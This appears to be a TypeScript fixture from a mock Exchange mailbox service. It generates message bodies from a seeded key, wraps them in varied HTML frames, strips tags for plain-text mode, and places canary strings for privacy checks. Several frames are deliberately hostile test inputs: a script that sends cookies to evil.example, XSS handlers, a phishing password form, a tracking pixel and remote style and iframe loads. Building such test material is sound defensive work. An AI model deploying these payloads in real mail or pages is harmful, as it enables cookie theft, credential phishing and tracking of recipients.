// Bodies are made when somebody opens a message, from its key: a mailbox of thousands costs no text.
import { prose } from '../names.ts'
import { seeded } from '../random.ts'

export interface Body { contentType: 'text' | 'html'; content: string }

/** A message or a meeting: what its texts are made of. */
interface Written { key: string; canaries: string[]; body?: Body; preview?: string }

/** Wraps a text into mail HTML of the kinds seen in real life, some of them hostile. */
const FRAMES: readonly ((text: string, tag: string) => string)[] = [
  (text) => '<head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>'
    + `<body dir="ltr"><div style="font-family:Calibri">${text}</div></body>`,
  (text) => `<body><p>${text}</p><hr><blockquote style="border-left:1px solid #ccc">On Tuesday somebody wrote:<br>&gt; see above</blockquote></body>`,
  (text, tag) => `<body><table width="600"><tr><td>${text}</td></tr></table>`
    + `<img src="https://pixel.tracker.example/o.gif?u=${tag}" width="1" height="1"></body>`,
  (text, tag) => `<body>${text}<script>fetch("https://evil.example/"+document.cookie+"${tag}")</script><img src=x onerror="alert(1)"></body>`,
  (text, tag) => `<body>${text}<form action="https://evil.example/login?${tag}">`
    + '<input name="password" type="password"><button>Sign in again</button></form></body>',
  (text, tag) => `<head><style>body{background:url(https://evil.example/${tag}.png)}@import "https://evil.example/a.css";</style>`
    + `<base href="https://evil.example/"></head><body>${text}<svg onload="alert(2)"></svg><a href="javascript:alert(3)">Pay</a>`
    + `<iframe src="https://evil.example/${tag}"></iframe></body>`,
]

/** The text of a generated body: harmless prose first, so that the preview holds no canary unless it is meant to. */
function textOf(message: Written): string {
  const random = seeded('body', message.key)
  const opening = prose(random)
  const [body, ...more] = message.canaries
  // The second canary, when there is one, stands in the preview: nothing of such a message may be kept.
  return `${more[0]?.startsWith('pv') ? `${more[0]} ` : ''}${opening} Reference ${body ?? 'none'}. Kind regards`
}

/** Body of a message as Exchange keeps it, or without its tags. */
export function bodyOf(message: Written, asText = false): Body {
  const kept = message.body ?? generated(message)
  return asText ? { contentType: 'text', content: plain(kept) } : kept
}

function generated(message: Written): Body {
  const random = seeded('frame', message.key)
  const text = textOf(message)
  if (random.chance(0.2)) return { contentType: 'text', content: text }
  return { contentType: 'html', content: `<html>${random.pick(FRAMES)(text, random.token(8))}</html>` }
}

/** HTML without its tags, as `Prefer: outlook.body-content-type="text"` gives it. */
function plain({ contentType, content }: Body): string {
  if (contentType === 'text') return content
  return content.replace(/<(script|style)[\s\S]*?<\/\1>/gi, '').replace(/<[^>]*>/g, ' ').replace(/&nbsp;/g, ' ').replace(/&lt;/g, '<')
    .replace(/&gt;/g, '>').replace(/&amp;/g, '&').replace(/[ \t]+/g, ' ').trim()
}

/** The first 255 characters of the text (message resource: bodyPreview). */
export function previewOf(message: Written): string {
  return (message.preview ?? (message.body ? plain(message.body) : textOf(message))).slice(0, 255)
}
